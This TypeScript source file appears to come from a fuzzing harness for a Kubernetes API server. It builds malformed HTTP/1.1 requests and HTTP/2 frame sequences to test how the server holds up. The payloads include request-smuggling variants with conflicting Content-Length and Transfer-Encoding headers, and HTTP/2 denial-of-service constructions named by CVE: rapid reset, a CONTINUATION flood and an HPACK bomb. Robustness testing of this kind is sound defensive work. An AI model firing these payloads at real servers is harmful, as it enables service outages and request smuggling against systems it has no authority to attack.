import {
  clientStream,
  endHeaders,
  endStream,
  field,
  frame,
  get,
  head,
  preface,
  reset,
  settings,
  times,
  type,
  u32,
} from '../support/http2-frames.ts';
import type { Choice } from './choice.ts';
import { namespace } from './corpus.ts';
import type { WireFuzzRequest } from './fuzz-request.ts';
import { mutateBytes } from './mutate.ts';

const latin1 = (text: string): Uint8Array => Buffer.from(text, 'latin1');
const configMaps = `/api/v1/namespaces/${namespace}/configmaps`;

/** Request `number` as bytes that no library would send. */
export function wireRequest(number: number, choice: Choice): WireFuzzRequest {
  if (choice.chance(0.4))
    return { number, family: 'http1-bytes', transport: 'wire1', bytes: new Uint8Array(http1Bytes(choice)) };
  return {
    number,
    family: 'http2-frames',
    transport: 'wire2',
    bytes: new Uint8Array(Buffer.concat(http2Bytes(choice))),
  };
}

function http1Bytes(choice: Choice): Uint8Array {
  const body = '{"apiVersion":"v1","kind":"ConfigMap","metadata":{"generateName":"w"}}';
  const head = 'Host: x\r\nContent-Type: application/json\r\n';
  const text = choice.pick([
    `GET /readyz HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(choice.pick([1, 2, 50])),
    `POST ${configMaps} HTTP/1.1\r\n${head}Content-Length: ${body.length}\r\n\r\n${body}`,
    `POST ${configMaps} HTTP/1.1\r\n${head}Content-Length: ${body.length + 5}\r\nContent-Length: 3\r\n\r\n${body}`,
    `POST ${configMaps} HTTP/1.1\r\n${head}Transfer-Encoding: chunked\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`,
    `POST ${configMaps} HTTP/1.1\r\n${head}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n`,
    `POST ${configMaps} HTTP/1.1\r\n${head}Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n`,
    `POST ${configMaps} HTTP/1.1\r\n${head}Content-Length: -1\r\nExpect: 100-continue\r\n\r\n`,
    `GET /api/v1/namespaces/x/pods/p/exec?command=a HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\n\r\n`,
    `GET /api/v1/namespaces/x/pods/p/portforward HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: SPDY/3.1\r\n\r\n${'\0'.repeat(64)}`,
    `GET http://other/readyz HTTP/1.1\r\nHost: other\r\n\r\n`,
    `CONNECT other:443 HTTP/1.1\r\nHost: other\r\n\r\n`,
    `OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n`,
    `GET /readyz HTTP/0.9\r\n\r\n`,
    `GET  /readyz\r\nno colon\r\n\r\n`,
    `GET /${'a'.repeat(2_000_000)} HTTP/1.1\r\n\r\n`,
    `GET / HTTP/1.1\r\nHost: x\r\nA: ${'b'.repeat(1_100_000)}\r\n\r\n`,
    `GET / HTTP/1.1\r\nHost: x\r\n${'a: b\r\n'.repeat(5000)}\r\n`,
    `GET / HTTP/1.1\r\nHost: x\r\nA: b\r\n folded\r\nC: \x00\x01\r\n\r\n`,
    `GET /readyz HTTP/1.1\nHost: x\n\n`,
    `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`,
  ]);
  const bytes = latin1(text);
  return choice.chance(0.5) ? mutateBytes(bytes, choice) : bytes;
}

const post = (stream: number) =>
  frame(
    type.headers,
    endHeaders,
    stream,
    Buffer.concat([head('POST', configMaps), field('content-type', 'application/json')]),
  );

/** The floods that servers were brought down with, and what breaks a rule of RFC 9113 in other ways. */
function http2Bytes(choice: Choice): Uint8Array[] {
  const start = [preface, settings([])];
  const count = choice.pick([10, 100, 1000]);
  const frames = choice.weighted<() => Uint8Array[]>([
    [2, () => times(count, (index) => Buffer.concat([get(clientStream(index)), reset(clientStream(index))]))], // rapid reset, CVE-2023-44487
    [1, () => times(count, (index) => Buffer.concat([post(clientStream(index)), reset(clientStream(index))]))],
    [1, () => continuationFlood(count)],
    [1, () => times(count, () => settings([[3, choice.below(1000)]]))],
    [1, () => times(count, () => frame(type.ping, 0, 0, Buffer.alloc(8)))],
    [1, () => times(count, (index) => frame(type.priority, 0, clientStream(index), Buffer.from([0, 0, 0, 0, 16])))],
    [1, () => times(count, () => frame(type.data, 0, 1, Buffer.alloc(0)))],
    [1, () => times(count, () => frame(type.window, 0, 0, u32(2 ** 31 - 1)))],
    [1, () => [hpackBomb(count)]],
    [1, () => times(count, (index) => get(clientStream(index)))],
    [1, () => [settings([[4, 2 ** 31]]), settings([[5, 1]]), settings([[1, 2 ** 32 - 1]]), get(1)]],
    [1, () => [settings([[4, 0]]), get(1), get(3), frame(type.window, 0, 1, u32(0))]],
    [1, () => [post(1), frame(type.data, 0, 1, Buffer.alloc(16_000)), frame(type.data, 8, 1, Buffer.from([255, 0]))]],
    [1, () => [get(2), get(1), get(1), frame(type.push, 4, 1, u32(2)), frame(type.goAway, 0, 0, Buffer.alloc(8))]],
    [1, () => [frame(type.headers, 5, 1, field('Upper', 'x')), frame(type.headers, 5, 3, field(':path', '')), get(5)]],
    [
      1,
      () => [
        frame(type.headers, 5, 1, Buffer.concat([head('GET', '/'), field('connection', 'close'), field('te', 'x')])),
      ],
    ],
    [3, () => times(1 + choice.below(20), () => randomFrame(choice))],
  ])();
  const all = [...start, ...frames];
  return choice.chance(0.4) ? [mutateBytes(Buffer.concat(all), choice)] : all;
}

/** Header fields that never end, CVE-2024-27983. */
function continuationFlood(count: number): Uint8Array[] {
  const more = (index: number) => frame(type.continuation, 0, 1, field(`x-${index}`, 'y'.repeat(1000)));
  return [frame(type.headers, endStream, 1, head('GET', '/readyz')), ...times(count, more)];
}

/** One field put into the dynamic table and named a thousand times: a short block that unpacks to megabytes. */
function hpackBomb(count: number): Uint8Array {
  const entry = field('x', 'y'.repeat(3000), 0x40);
  return frame(
    type.headers,
    endStream | endHeaders,
    1,
    Buffer.concat([head('GET', '/'), entry, Buffer.alloc(count * 10, 0x80 | 62)]),
  );
}

function randomFrame(choice: Choice): Uint8Array {
  const made = frame(choice.below(12), choice.below(64), choice.below(10), choice.bytes(choice.below(40)));
  if (choice.chance(0.2)) made.writeUIntBE(choice.pick([0, 1, 16_385, 0xffffff]), 0, 3);
  return made;
}
